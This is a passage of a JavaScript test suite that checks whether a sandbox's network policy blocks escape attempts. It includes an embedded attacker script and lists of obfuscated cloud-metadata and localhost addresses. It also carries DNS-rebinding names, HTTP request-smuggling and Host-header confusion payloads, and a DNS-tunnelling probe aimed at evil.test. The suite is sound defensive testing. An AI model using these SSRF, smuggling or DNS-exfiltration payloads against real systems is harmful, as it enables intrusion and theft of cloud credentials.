// tests/escape/egress.test.js: ways out of a sandbox that may send something:
// to what is near (metadata services, this machine, its networks), by names
// that lead there, by questions about names, past the rule of a host, with
// another's secret.
//
// All of it happens on a machine of its own, a network namespace that leads to
// another one. That one has public addresses, private ones, and those of
// metadata services; a server listens at all of them, and one on the machine
// itself, and they tell where they were reached. So each attempt has a control
// that succeeds: the same program outside of the sandbox, or the same request
// under a policy that allows it.
'use strict';

const assert = require('node:assert');
const { spawn, spawnSync } = require('node:child_process');
const dgram = require('node:dgram');
const fs = require('node:fs');
const http = require('node:http');
const http2 = require('node:http2');
const net = require('node:net');
const path = require('node:path');
const { after, before, describe, test } = require('node:test');

const paddock = path.resolve(process.env.PADDOCK ?? 'build/src/paddock');
const inside = process.env.PADDOCK_ESCAPE_NETWORK === 'own';
const near = ['169.254.169.254', '100.100.100.200', '168.63.129.16',
	'10.1.2.3', '192.168.7.7', '100.64.0.9'];
const addresses = ['93.184.216.34/32', ...near.map((a) => `${a}/32`),
	'fd00:ec2::254/128', '2606:2800:220:1::1/128', '64:ff9b::a9fe:a9fe/128',
	'2002:a9fe:a9fe::1/128'];

if (!inside) {
	test('what leaves a sandbox, in a network of its own', {
		skip: process.getuid() !== 0 && 'needs root to make that network',
	}, () => {
		const env = { ...process.env, PADDOCK_ESCAPE_NETWORK: 'own' };

		delete env.NODE_TEST_CONTEXT;
		const r = spawnSync('unshare', ['-n', process.execPath, '--test',
			'--test-reporter=tap', __filename],
		{ env, encoding: 'utf8', timeout: 280000 });

		assert.equal(r.status, 0, r.stdout + r.stderr);
		assert.match(r.stdout, /# pass [1-9]/);
		assert.match(r.stdout, /# skipped 0/);
	});
}

// What a hostile program does, by one of the doors. Prints what came back, a
// line of JSON for each attempt.
const attacker = `
import concurrent.futures, json, socket, struct, sys
PROXY = ('127.0.0.1', 3128)

def talk(s, data):
    s.settimeout(2)
    s.sendall(data)
    got = b''
    try:
        while len(got) < 20000:
            b = s.recv(4096)
            if not b: break
            got += b
            if b'END' in got: break
    except socket.timeout:
        pass
    return got

def get(a):
    return (a.get('raw') or 'GET %s HTTP/1.1\\r\\nHost: %s\\r\\n'
        'Connection: close\\r\\n\\r\\n' % (a.get('path', '/'),
        a.get('host', a['to']))).encode('utf-8')

def direct(a):
    to = a['to'].strip('[]')
    with socket.create_connection((to, a.get('port', 80)), 4) as s:
        return talk(s, get(a))

def connect(a):
    with socket.create_connection(PROXY, 4) as s:
        to = '%s:%d' % (a['to'], a.get('port', 80))
        said = talk_head(s, ('CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n'
            % (to, a.get('authority', to))).encode('utf-8'))
        if b' 200' not in said.split(b'\\r\\n')[0]: return said
        return talk(s, get(a))

def talk_head(s, data):
    s.settimeout(4)
    s.sendall(data)
    got = b''
    while b'\\r\\n\\r\\n' not in got:
        b = s.recv(4096)
        if not b: break
        got += b
    return got

def absolute(a):
    with socket.create_connection(PROXY, 4) as s:
        url = 'http://%s%s' % (a['to'], a.get('path', '/'))
        return talk(s, ('GET %s HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close'
            '\\r\\n\\r\\n' % (url, a.get('host', a['to']))).encode('utf-8'))

def socks(a):
    name = a['to'].strip('[]')
    try:
        at = b'\\x01' + socket.inet_pton(socket.AF_INET, name)
    except OSError:
        try:
            at = b'\\x04' + socket.inet_pton(socket.AF_INET6, name)
        except OSError:
            at = b'\\x03' + bytes([len(name.encode())]) + name.encode()
    if a.get('as_name'):
        at = b'\\x03' + bytes([len(name.encode())]) + name.encode()
    with socket.create_connection(PROXY, 4) as s:
        s.settimeout(4)
        s.sendall(b'\\x05\\x01\\x00')
        s.recv(2)
        s.sendall(b'\\x05\\x01\\x00' + at + struct.pack('!H', a.get('port', 80)))
        said = s.recv(32)
        if len(said) < 2 or said[1] != 0: return b'socks ' + said.hex().encode()
        return talk(s, get(a))

doors = { 'direct': direct, 'connect': connect, 'absolute': absolute,
    'socks': socks }
def attempt(a):
    try:
        got = doors[a['door']](a).decode('latin1')
    except Exception as e:
        got = 'failed: ' + str(e)
    return json.dumps({ **a, 'got': got[:4000] })
with concurrent.futures.ThreadPoolExecutor(12) as pool:
    for line in pool.map(attempt, json.load(open(sys.argv[1]))):
        print(line, flush=True)
`;

// The machine: a process that keeps its network, and listens there, until its
// input ends.
const machine = `
import os, socket, sys, threading
threading.Thread(target=lambda: (sys.stdin.read(), os._exit(0))).start()
s = socket.create_server(('::', 80), family=socket.AF_INET6,
    dualstack_ipv6=True)
print('ready', flush=True)
while True:
    c, _ = s.accept()
    c.settimeout(4)
    try:
        c.recv(4096)
        body = 'ARRIVED machine END'
        c.sendall(('HTTP/1.1 200 OK\\r\\nContent-Length: %d\\r\\n\\r\\n%s' %
            (len(body), body)).encode())
        print('came', flush=True)
    except OSError:
        pass
    c.close()
`;

const scratch = inside ? fs.mkdtempSync('/var/tmp/paddock-egress-') : '';
const work = path.join(scratch, 'work');
const state = path.join(scratch, 'state');
const reached = []; // { at, head }: requests that came to a server
const asked = []; // { name, type }: questions that came to the resolver
const packets = []; // datagrams that came to a UDP server
const closing = [];
const sockets = new Set();
let zone = () => [];
const resolverAt = '93.184.216.1';
const PLAIN = 8080;
const TLS = 8443;
const told = []; // { host, url, method, headers, body }: requests, as parsed
let dnsPort, keeper, ca;

// Answers from `zone`: a list of [type, bytes], or [5, name] for a CNAME.
function answerName(q) {
	let at = 12;
	const labels = [];

	while (q[at] !== 0) {
		labels.push(q.toString('latin1', at + 1, at + 1 + q[at]));
		at += q[at] + 1;
	}
	const name = labels.join('.').toLowerCase();
	const type = q.readUInt16BE(at + 1);

	asked.push({ name, type });
	const records = zone(name, type).map(([kind, data, owner]) => {
		const encode = (n) => Buffer.concat([...n.split('.').map((l) =>
			Buffer.concat([Buffer.from([l.length]), Buffer.from(l)])),
		Buffer.from([0])]);
		const bytes = kind === 5 ? encode(data) : data;
		const head = Buffer.from([0, kind, 0, 1, 0, 0, 0, 0, 0, bytes.length]);

		return Buffer.concat([encode(owner ?? name), head, bytes]);
	});
	const head = Buffer.from([...q.subarray(0, 2), 0x81, 0x80, 0, 1, 0,
		records.length, 0, 0, 0, 0]);

	return Buffer.concat([head, q.subarray(12, at + 5), ...records]);
}

const v4 = (a) => Buffer.from(a.split('.').map(Number));
const v6 = (hex) => Buffer.from(hex, 'hex');

// "a-10-1-2-3.in.test" and "aaaa-HEX.in.test" say themselves what they are.
function named(name, type) {
	const a = name.match(/^a-(\d+)-(\d+)-(\d+)-(\d+)\./);
	const aaaa = name.match(/^aaaa-([0-9a-f]{32})\./);

	if (a && type === 1)
		return [[1, Buffer.from(a.slice(1).map(Number))]];
	if (aaaa && type === 28)
		return [[28, v6(aaaa[1])]];
	return [];
}

function listen(server, port, host = '::') {
	closing.push(server);
	server.on('connection', keep);
	return new Promise((done, no) => server.on('error', no)
		.listen(port, host, () => done(server.address().port)));
}

function serve(socket) {
	let head = '';

	socket.on('data', (d) => {
		head += d.toString('latin1');
		if (!head.includes('\r\n\r\n'))
			return;
		const at = socket.localAddress.replace('::ffff:', '');
		const body = `ARRIVED ${at} END`;

		reached.push({ at, head });
		head = '';
		socket.write(`HTTP/1.1 200 OK\r\nContent-Length: ${body.length}` +
			`\r\n\r\n${body}`);
	});
}

function keep(socket) {
	sockets.add(socket);
	socket.on('close', () => sockets.delete(socket));
	socket.on('error', () => undefined);
}

// A server with a parser that is not ours. Says all that it was asked.
function tell(q, s) {
	let body = '';

	q.on('data', (d) => { body += d; }).on('end', () => {
		const host = q.headers[':authority'] ?? q.headers.host ?? '';
		const what = { host: host.split(':')[0], url: q.url,
			method: q.method, headers: q.headers, body };
		const to = q.url.match(/^\/ok\/moved\?(.*)$/)?.[1];

		told.push(what);
		s.writeHead(to === undefined ? 200 : 302, {
			'Alt-Svc': 'h3=":443", h2="open.test:8443"',
			...to !== undefined && { Location: decodeURIComponent(to) } });
		s.end(`${JSON.stringify(what)} ARRIVED END`);
	});
}

function refuse(q, socket) {
	told.push({ host: q.headers.host, url: q.url, method: q.method,
		headers: q.headers, body: '', upgraded: true });
	socket.end('HTTP/1.1 101 Switching Protocols\r\n' +
		`Upgrade: ${q.headers.upgrade}\r\nConnection: Upgrade\r\n\r\nEND`);
}

if (inside) {
	before(async () => {
		keeper = spawn('unshare', ['-n', 'sh', '-c',
			'ip link set lo up && exec python3 -c "$0"', machine],
		{ stdio: ['pipe', 'pipe', 'inherit'] });
		await new Promise((done) => keeper.stdout.once('data', done));
		keeper.stdout.on('data', (d) => {
			for (const _ of String(d).matchAll(/came/g))
				reached.push({ at: 'machine', head: '' });
		});
		const ip = (...args) => {
			const r = spawnSync('ip', args, { encoding: 'utf8' });

			assert.equal(r.status, 0, `ip ${args.join(' ')}: ${r.stderr}`);
		};

		keeper.net = `/proc/${keeper.pid}/ns/net`;
		const on = (...args) => assert.equal(spawnSync('nsenter',
			[`--net=${keeper.net}`, 'ip', ...args]).status, 0,
		`ip ${args.join(' ')}`);

		ip('link', 'set', 'lo', 'up');
		ip('link', 'add', 'here', 'type', 'veth', 'peer', 'name', 'there');
		ip('link', 'set', 'there', 'netns', String(keeper.pid));
		for (const a of ['203.0.113.1/24', `${resolverAt}/32`, ...addresses])
			ip('addr', 'add', a, 'dev', 'here');
		ip('addr', 'add', '2001:db8:1::1/64', 'dev', 'here', 'nodad');
		ip('link', 'set', 'here', 'up');
		on('addr', 'add', '203.0.113.2/24', 'dev', 'there');
		on('addr', 'add', '2001:db8:1::2/64', 'dev', 'there', 'nodad');
		on('link', 'set', 'there', 'up');
		on('route', 'add', 'default', 'via', '203.0.113.1');
		on('-6', 'route', 'add', 'default', 'via', '2001:db8:1::1');
		fs.chmodSync(scratch, 0o755);
		fs.mkdirSync(work);
		fs.chmodSync(work, 0o777);
		fs.writeFileSync(path.join(work, 'attack.py'), attacker);

		const dns = dgram.createSocket('udp4');

		dns.on('message', (q, from) => dns.send(answerName(q), from.port,
			from.address));
		await new Promise((done) => dns.bind(0, resolverAt, done));
		closing.push(dns);
		dnsPort = dns.address().port;
		const udp = dgram.createSocket('udp4', (d) => packets.push(d));

		await new Promise((done) => udp.bind(443, '0.0.0.0', done));
		closing.push(udp);
		await listen(net.createServer(serve), 80);
		await listen(http.createServer(tell).on('upgrade', refuse), PLAIN);
		const keys = path.join(scratch, 'keys');
		const { certificates } = await import(
			path.join(__dirname, '../e2e/lib/outside.js'));

		fs.mkdirSync(keys);
		ca = certificates(keys, ['api.test', 'open.test']);
		await listen(http2.createSecureServer({ allowHTTP1: true,
			key: fs.readFileSync(path.join(keys, 's.key')),
			cert: fs.readFileSync(path.join(keys, 's.pem')) }, tell),
		TLS);
	});
	after(() => {
		keeper.stdin.end();
		for (const s of sockets)
			s.destroy();
		for (const s of closing)
			s.close();
		fs.rmSync(scratch, { recursive: true, force: true });
	});
}

function policy(rules, more = {}) {
	return { policy: 1, workflow: 'out', tenant: 'a', actor: 'b', stage: 5,
		defaults: { by_risk: { external_write: 'allow' } }, tools: {},
		egress: { default: 'deny', rules }, ...more };
}

function start(program, args) {
	const child = spawn('nsenter', [`--net=${keeper.net}`, program, ...args],
		{ cwd: work, stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env,
			PADDOCK_RESOLVER: `${resolverAt}:${dnsPort}` } });
	const r = { out: '', err: '' };

	child.stdout.on('data', (d) => { r.out += d; });
	child.stderr.on('data', (d) => { r.err += d; });
	return new Promise((done) => child.on('close', (status) =>
		done({ ...r, status })));
}

function clear() {
	for (const list of [reached, asked, packets, told])
		list.length = 0;
}

// A command in a sandbox under these rules.
function run(document, ...command) {
	const file = path.join(scratch, 'policy.json');

	fs.writeFileSync(file, JSON.stringify(document));
	return start(paddock, ['run', '--state', state, '--dir', work, file, '--',
		...command]);
}

// The attempts, inside under a policy, or on the machine without one. Gives them with
// what came back.
async function attack(attempts, document) {
	const file = path.join(work, 'attempts.json');
	const command = ['python3', 'attack.py', 'attempts.json'];

	fs.writeFileSync(file, JSON.stringify(attempts));
	clear();
	const r = document === undefined
		? await start('/usr/bin/env', command)
		: await run(document, ...command);
	const lines = r.out.trim().split('\n').filter((l) => l.startsWith('{'))
		.map((l) => JSON.parse(l));

	assert.equal(lines.length, attempts.length, r.out + r.err);
	return lines;
}

const show = (list) => list.map((a) =>
	`${a.door} ${a.to}: ${a.got.slice(0, 200)}`).join('\n');

if (inside) describe('47: metadata services, and other things near', () => {
	const spellings = ['169.254.169.254', '2852039166', '0xA9FEA9FE',
		'0xa9.0xfe.0xa9.0xfe', '0251.0376.0251.0376', '025177524776',
		'169.254.43518', '169.16689662', '169.254.169.254.',
		'[::ffff:169.254.169.254]', '[::ffff:a9fe:a9fe]',
		'[64:ff9b::a9fe:a9fe]', '[fd00:ec2::254]', '[2002:a9fe:a9fe::1]',
		'[::169.254.169.254]', '[::ffff:0:a9fe:a9fe]',
		'①⑥⑨.②⑤④.①⑥⑨.②⑤④', '169。254。169。254',
		'169.254.169.254%00.open.test', 'open.test@169.254.169.254',
		'metadata.google.internal', 'a-169-254-169-254.in.test',
		'aaaa-00000000000000000000ffffa9fea9fe.in.test',
		'aaaa-0064ff9b0000000000000000a9fea9fe.in.test',
		'aaaa-fd000ec2000000000000000000000254.in.test',
		'a-127-0-0-1.in.test', 'a-0-0-0-0.in.test',
		'localhost', '127.1', '0', '[::1]', '[::]',
		...near, ...near.map((a) => `a-${a.replaceAll('.', '-')}.in.test`)];
	const doors = ['direct', 'connect', 'absolute', 'socks'];
	const attempts = doors.flatMap((door) =>
		spellings.map((to) => ({ door, to })));
	const hosts = ['*.in.test', 'metadata.google.internal', 'localhost',
		'open.test', ...near, '127.0.0.1', 'fd00:ec2::254', '::1',
		'::ffff:169.254.169.254', '64:ff9b::a9fe:a9fe'];
	const lead = (name, type) => name === 'metadata.google.internal'
		? (type === 1 ? [[1, v4('169.254.169.254')]] : [])
		: named(name, type);

	test('no spelling leads there by any door, whatever names are allowed',
		async () => {
			zone = lead;
			const got = await attack(attempts,
				policy(hosts.map((host) => ({ host }))));
			const through = got.filter((a) => a.got.includes('ARRIVED'));

			assert.deepEqual(reached, []);
			assert.deepEqual(through, [], show(through));
		});

	test('nor by a name that the resolver inside was asked for', async () => {
		zone = lead;
		const r = await run(policy(hosts.map((host) => ({ host }))), 'python3',
			'-c', 'import socket\n' +
			`for n in ${JSON.stringify(spellings.filter((s) =>
				s.includes('test') || s.includes('internal')))}:\n` +
			'  try: print(socket.getaddrinfo(n, 80, type=1)[0][4][0])\n' +
			'  except OSError as e: print(e)');

		assert.doesNotMatch(r.out, /169\.254|^10\.|^192\.168|fd00|^100\./m);
		assert.match(r.out, /^198\.1[89]\./m);
	});

	test('control: outside each is reached, and inside where it is pinned',
		async () => {
			zone = lead;
			const direct = await attack(['169.254.169.254', '2852039166',
				'0xA9FEA9FE', '0251.0376.0251.0376', '169.254.43518',
				'[::ffff:a9fe:a9fe]', '[64:ff9b::a9fe:a9fe]',
				'[fd00:ec2::254]', '[2002:a9fe:a9fe::1]', '127.1', 'localhost',
				...near]
				.map((to) => ({ door: 'direct', to })));

			for (const a of direct)
				assert.match(a.got, /ARRIVED/, show([a]));
			const pinned = await attack(doors.flatMap((door) =>
				['a-169-254-169-254.in.test', '169.254.169.254', '10.1.2.3']
					.map((to) => ({ door, to }))),
			policy(hosts.map((host) => ({ host,
				addrs: ['0.0.0.0/0', '::/0'] }))));

			for (const a of pinned)
				assert.match(a.got, /ARRIVED/, show([a]));
			assert.equal(reached.length, pinned.length);
		});
});

if (inside) describe('48: names that lead inwards', () => {
	const turns = new Map();
	const chain = { 'one.test': 'two.test', 'two.test': 'three.test',
		'three.test': 'a-10-1-2-3.in.test',
		'good.test': 'a-93-184-216-34.in.test',
		'loop.test': 'pool.test', 'pool.test': 'loop.test' };
	const outward = v4('93.184.216.34'), inward = v4('10.1.2.3');

	function lead(name, type) {
		if (chain[name] !== undefined) {
			const list = [];
			let at = name;

			while (chain[at] !== undefined && list.length < 8) {
				list.push([5, chain[at], at]);
				at = chain[at];
			}
			return [...list, ...named(at, type).map((r) => [...r, at])];
		}
		if (name === 'turn.test' && type === 1) {
			const n = (turns.get(name) ?? 0) + 1;

			turns.set(name, n);
			return [[1, n % 2 ? outward : inward]];
		}
		if (name === 'both.test' && type === 1)
			return [[1, outward], [1, inward]];
		if (name === 'back.test' && type === 1)
			return [[1, inward], [1, outward]];
		if (name === 'split.test')
			return type === 1 ? [[1, outward]]
				: [[28, v6('fd000ec2000000000000000000000254')]];
		if (name === 'other.test' && type === 1)
			return [[1, inward, 'public.test']]; // not what was asked
		if (name === 'public.test' && type === 1)
			return [[1, outward]];
		return named(name, type);
	}
	const hosts = ['one.test', 'good.test', 'loop.test', 'turn.test',
		'both.test', 'back.test', 'split.test', 'other.test', 'public.test',
		'*.in.test'];
	const ways = ['direct', 'connect', 'absolute', 'socks'];
	const inwards = ['one.test', 'loop.test', 'a-10-1-2-3.in.test',
		'a-127-0-0-1.in.test', 'aaaa-00000000000000000000000000000001.in.test',
		'aaaa-00000000000000000000ffff0a010203.in.test', 'other.test'];

	test('are refused, whatever leads there, and names outwards are not',
		async () => {
			zone = lead;
			const got = await attack(ways.flatMap((door) =>
				[...inwards, 'good.test', 'public.test']
					.map((to) => ({ door, to }))),
			policy(hosts.map((host) => ({ host }))));

			for (const a of got) {
				if (inwards.includes(a.to))
					assert.doesNotMatch(a.got, /ARRIVED/, show([a]));
				else
					assert.match(a.got, /ARRIVED 93\.184\.216\.34/,
						show([a]));
			}
			assert.ok(reached.every((r) => r.at === '93.184.216.34'));
		});

	test('an answer that changes, or leads two ways, never leads inwards',
		async () => {
			zone = lead;
			const got = await attack(Array.from({ length: 24 }, (_, i) =>
				({ door: ways[i % 4], to: 'turn.test' })).concat(
				['both.test', 'back.test', 'split.test'].flatMap((to) =>
					ways.map((door) => ({ door, to })))),
			policy(hosts.map((host) => ({ host }))));

			assert.ok(reached.length > 0, show(got));
			assert.deepEqual(reached.filter((r) => r.at !== '93.184.216.34'),
				[]);
		});

	test('control: pinned to those addresses, they are reached', async () => {
		zone = lead;
		await attack(ways.map((door) => ({ door, to: 'one.test' }))
			.concat(Array.from({ length: 6 },
				() => ({ door: 'direct', to: 'turn.test' }))),
		policy(hosts.map((host) => ({ host, addrs: ['10.0.0.0/8',
			'93.184.216.34/32'] }))));
		assert.equal(reached.filter((r) => r.at === '10.1.2.3' &&
			r.head.includes('one.test')).length, 4);
		assert.ok(reached.some((r) => r.at === '10.1.2.3' &&
			r.head.includes('turn.test')));
	});
});

// Questions about names, by every way: to the resolver inside, to others, over
// UDP and TCP, of types that carry much, with labels as long as they may be.
// Prints how many were answered with what was not there to be known.
const asker = `
import os, random, socket, struct, sys
zone, others = sys.argv[1], sys.argv[2:]
mine = [l.split()[1] for l in open('/etc/resolv.conf')
    if l.startswith('nameserver')]
known = 0
def ask(name, kind):
    q = struct.pack('!HHHHHH', random.getrandbits(16), 256, 1, 0, 0, 0)
    for l in name.split('.'): q += bytes([len(l)]) + l.encode()
    return q + struct.pack('!BHH', 0, kind, 1)
def label(n): return ''.join(random.choice('abcdef0123456789') for _ in range(n))
for where in others + mine:
    host, _, port = where.partition(':')
    to = (host, int(port or 53))
    for i in range(40):
        kind = (1, 28, 16, 10, 255, 5, 15, 33, 65)[i % 9]
        name = '.'.join([label((8, 63)[i % 2])] * (1, 3)[i % 2] + [zone])
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(0.2)
            s.sendto(ask(name, kind), to)
            if i < 9: known += s.recv(4096)[7] != 0
        except OSError: pass
    try:
        s = socket.create_connection(to, 1)
        q = ask(label(60) + '.' + zone, 16)
        s.settimeout(0.5)
        s.sendall(struct.pack('!H', len(q)) + q)
        s.recv(4096)
    except OSError: pass
print('answered', known)
`;

if (inside) describe('49: questions about names, and packets', () => {
	const out = (zoneName) => ['python3', '-c', asker, zoneName, '8.8.8.8',
		'93.184.216.34', `${resolverAt}:${dnsPort}`];

	test('no question about a name leaves, allowed or not', async () => {
		zone = () => [[1, v4('93.184.216.34')]];
		for (const name of ['evil.test', 'in.test', 'public.test']) {
			clear();
			const r = await run(policy([{ host: '*.in.test' },
				{ host: 'public.test' }]), ...out(name));

			assert.match(r.out, /answered/, r.err);
			assert.deepEqual(asked, []);
		}
	});

	test('nor is a name looked up that no rule is about', async () => {
		zone = () => [[1, v4('93.184.216.34')]];
		const doors = ['direct', 'connect', 'absolute', 'socks'];
		const names = ['secret.evil.test', 'x.public.test', 'public.test.evil',
			'in.test', 'publictest', 'a.b.public.test.'];

		await attack(doors.flatMap((door) => names.map((to) =>
			({ door, to, as_name: true }))),
		policy([{ host: '*.in.test' }, { host: 'public.test' }]));
		assert.deepEqual(asked, []);
		assert.deepEqual(reached, []);
	});

	test('no packet leaves', async () => {
		const send = ['python3', '-c', 'import socket\n' +
			'for f, a in ((2, "93.184.216.34"), (2, "198.18.0.1"), ' +
			'(10, "::ffff:93.184.216.34"), (10, "2606:2800:220:1::1")):\n' +
			'  try: socket.socket(f, 2).sendto(b"x" * 900, (a, 443))\n' +
			'  except OSError: pass\nprint("done")'];

		clear();
		const r = await run(policy([{ host: 'public.test' },
			{ host: '93.184.216.34', proto: 'tcp', port: 443 }]), ...send);

		assert.match(r.out, /done/);
		assert.deepEqual(packets, []);
		await start(send[0], send.slice(1));
		await new Promise((done) => setImmediate(done));
		assert.ok(packets.length > 0, 'control: outside they leave');
	});

	test('control: outside all are asked, inside a name that is dialled',
		async () => {
			zone = () => [[1, v4('93.184.216.34')]];
			clear();
			const [program, ...args] = out('evil.test');

			await start(program, args);
			assert.ok(asked.length >= 40, `${asked.length}`);
			const got = await attack([{ door: 'connect', to: 'x.in.test' }],
				policy([{ host: '*.in.test' }]));

			assert.match(got[0].got, /ARRIVED/);
			assert.ok(asked.some((q) => q.name === 'x.in.test'));
		});
});

// A host with rules about its paths, and one beside it, at the same address,
// that may be told anything.
function twoHosts(free = false) {
	const both = { ca, addrs: ['93.184.216.34/32'] };

	return policy([
		{ host: 'api.test', port: PLAIN, ...!free && { paths: ['/ok/**'] },
			addrs: both.addrs },
		{ host: 'open.test', port: PLAIN, paths: ['/**'], addrs: both.addrs },
		{ host: 'api.test', port: TLS, paths: free ? ['/**'] : ['/ok/**'],
			...both },
		{ host: 'open.test', port: TLS, paths: ['/**'], ...both },
	]);
}

// What must not arrive: anything for api.test that is not below /ok.
const forbidden = () => told.filter((q) =>
	q.host.toLowerCase().startsWith('api.test') && !q.url.startsWith('/ok/'));

if (inside) describe('53: two names of one host', () => {
	const crlf = '\r\n';
	const lines = (...list) => list.join(crlf) + crlf + crlf;
	const raws = [
		lines('GET /secret HTTP/1.1', 'Host: api.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host: open.test:8080',
			'Host: api.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host: api.test:8080',
			'Host: open.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host : api.test:8080',
			'Host: open.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host: open.test:8080',
			' api.test:8080'),
		lines('GET http://api.test:8080/secret HTTP/1.1',
			'Host: open.test:8080'),
		lines('GET http://open.test:8080/secret HTTP/1.1',
			'Host: api.test:8080'),
		lines('GET http://open.test:8080@api.test:8080/secret HTTP/1.1',
			'Host: open.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host: open.test:8080@api.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host: api.test:8080#open.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host: api.test:8080\0.open.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host: open.test:8080\rHost: api.test'),
		lines('GET /secret HTTP/1.1', 'Host: open.test:8080\nHost: api.test'),
		lines('GET /secret HTTP/1.1', 'Host: api.test.:8080'),
		lines('GET /secret HTTP/1.1', 'Host: API.TEST:8080'),
		lines('GET /secret HTTP/1.1', 'Host: %61pi.test:8080'),
		lines('GET /secret HTTP/1.1', 'Host: api.test:8080:80'),
		lines('GET /secret HTTP/1.0'),
		lines('GET /secret HTTP/1.1', 'X-Forwarded-Host: api.test',
			'Host: api.test:8080'),
		lines('CONNECT api.test:8080 HTTP/1.1', 'Host: api.test:8080') +
			lines('GET /secret HTTP/1.1', 'Host: api.test:8080'),
		lines('GET /ok/a HTTP/1.1', 'Host: open.test:8080') +
			lines('GET /secret HTTP/1.1', 'Host: api.test:8080'),
		lines('POST /ok/a HTTP/1.1', 'Host: open.test:8080',
			'Content-Length: 6', 'Transfer-Encoding: chunked') + '0' + crlf +
			crlf + lines('GET /secret HTTP/1.1', 'Host: api.test:8080'),
		lines('POST /ok/a HTTP/1.1', 'Host: open.test:8080',
			'Transfer-Encoding: chunked, identity') + '0' + crlf + crlf +
			lines('GET /secret HTTP/1.1', 'Host: api.test:8080'),
		lines('POST /ok/a HTTP/1.1', 'Host: open.test:8080',
			'Content-Length: 0', 'Content-Length: 60') +
			lines('GET /secret HTTP/1.1', 'Host: api.test:8080'),
		lines('POST /ok/a HTTP/1.1', 'Host: open.test:8080',
			'Content-Length: +0') +
			lines('GET /secret HTTP/1.1', 'Host: api.test:8080'),
		lines('POST /ok/a HTTP/1.1', 'Host: open.test:8080',
			'Transfer-Encoding: chunked') + '0;a=' + '\n' + crlf + crlf +
			lines('GET /secret HTTP/1.1', 'Host: api.test:8080'),
		lines('GET /ok/../secret HTTP/1.1', 'Host: api.test:8080'),
		lines('GET /ok/%2e%2e/secret HTTP/1.1', 'Host: api.test:8080'),
		lines('GET //secret HTTP/1.1', 'Host: api.test:8080'),
	];
	const attempts = raws.flatMap((raw) => ['api.test', 'open.test'].flatMap(
		(to) => ['direct', 'connect', 'socks'].map((door) =>
			({ door, to, port: PLAIN, raw, as_name: true }))).concat([
		{ door: 'absolute', to: 'api.test:8080', path: '/secret',
			host: 'open.test:8080' },
		{ door: 'absolute', to: 'open.test:8080', path: '/secret',
			host: 'api.test:8080' },
		{ door: 'connect', to: 'open.test', port: PLAIN,
			authority: 'api.test:8080', raw },
		{ door: 'connect', to: 'api.test', port: PLAIN,
			authority: 'open.test:8080', raw },
	]));

	// HTTP/1.1 and HTTP/2 within TLS, with every mixture of what was asked
	// for, what the hello says, and what the request says.
	const mixtures = `
const http2 = require('http2'), net = require('net'), tls = require('tls');
const names = ['api.test', 'open.test'];
function dial(to, sni, alpn) {
	return new Promise((done, no) => {
		const raw = net.connect(3128, '127.0.0.1');
		raw.setTimeout(4000, () => raw.destroy());
		raw.on('error', no).on('close', () => no(Error('closed')));
		raw.write('CONNECT ' + to + ':8443 HTTP/1.1\\r\\nHost: ' + to +
			':8443\\r\\n\\r\\n');
		raw.once('data', (d) => {
			if (!String(d).startsWith('HTTP/1.1 200')) return no(Error(d));
			const s = tls.connect({ socket: raw, servername: sni,
				ALPNProtocols: alpn, rejectUnauthorized: false });
			s.on('secureConnect', () => done(s)).on('error', no);
		});
	});
}
async function one(to, sni, host) {
	const s = await dial(to, sni, ['http/1.1']);
	s.write('GET /secret HTTP/1.1\\r\\nHost: ' + host + ':8443\\r\\n\\r\\n');
	await new Promise((done) => s.once('data', done).on('close', done));
	s.destroy();
}
async function two(to, sni, head) {
	const s = await dial(to, sni, ['h2']);
	const c = http2.connect('https://' + to + ':8443',
		{ createConnection: () => s });
	c.on('error', () => undefined);
	const q = c.request({ ':path': '/secret', ...head });
	await new Promise((done) => q.on('error', done).on('close', done)
		.on('response', () => q.close()).resume());
	c.destroy();
}
(async () => {
	for (const to of names) for (const sni of [...names, ''])
		for (const host of names) {
			for (const head of [{ ':authority': host + ':8443' },
				{ ':authority': 'open.test:8443', host: host + ':8443' },
				{ ':authority': to + ':8443', host: host + ':8443' }])
				await two(to, sni, head).catch((e) => undefined);
			await one(to, sni, host).catch((e) => undefined);
		}
	console.log('done');
	process.exit(0);
})();
`;

	test('whatever a request says twice, no rule is passed', async () => {
		zone = (name, type) => type === 1 ? [[1, v4('93.184.216.34')]] : [];
		await attack(attempts, twoHosts());
		assert.deepEqual(forbidden(), []);
		assert.ok(told.some((q) => q.host === 'open.test'));
	});

	test('nor within TLS, by the hello, HTTP/1.1 or HTTP/2', async () => {
		clear();
		fs.writeFileSync(path.join(work, 'mix.cjs'), mixtures);
		const r = await run(twoHosts(), process.execPath, 'mix.cjs');

		assert.match(r.out, /done/, r.err);
		assert.deepEqual(forbidden(), []);
		assert.ok(told.some((q) => q.host === 'open.test' &&
			q.headers[':path'] === '/secret'), 'HTTP/2');
		assert.ok(told.some((q) => q.host === 'open.test' &&
			q.headers[':path'] === undefined), 'HTTP/1.1');
	});

	test('control: outside it arrives, and inside where it is allowed',
		async () => {
			await attack([{ door: 'direct', to: '93.184.216.34', port: PLAIN,
				raw: raws[0] }]);
			assert.equal(forbidden().length, 1);
			await attack(['direct', 'connect', 'socks'].map((door) =>
				({ door, to: 'api.test', port: PLAIN, raw: raws[0] })),
			twoHosts(true));
			assert.equal(forbidden().length, 3);
			clear();
			await run(twoHosts(true), process.execPath, 'mix.cjs');
			assert.ok(forbidden().length >= 2);
		});
});

if (inside) describe('54: answers that lead elsewhere', () => {
	const targets = ['http://10.1.2.3/', 'http://169.254.169.254/latest',
		'http://a-10-1-2-3.in.test/', 'http://2852039166/', '//10.1.2.3/',
		'http://a-127-0-0-1.in.test/', 'http://evil.test/',
		'http://api.test:8080/secret', 'http://api.test:8080@10.1.2.3/',
		'http://[::ffff:a9fe:a9fe]/', 'http://93.184.216.34/'];
	const lead = (name, type) => named(name, type).length > 0
		? named(name, type) : type === 1 ? [[1, v4('93.184.216.34')]] : [];
	const script = (base, list = targets) => list.map((t) => 'curl -gsSL -m 5 --proto-redir ' +
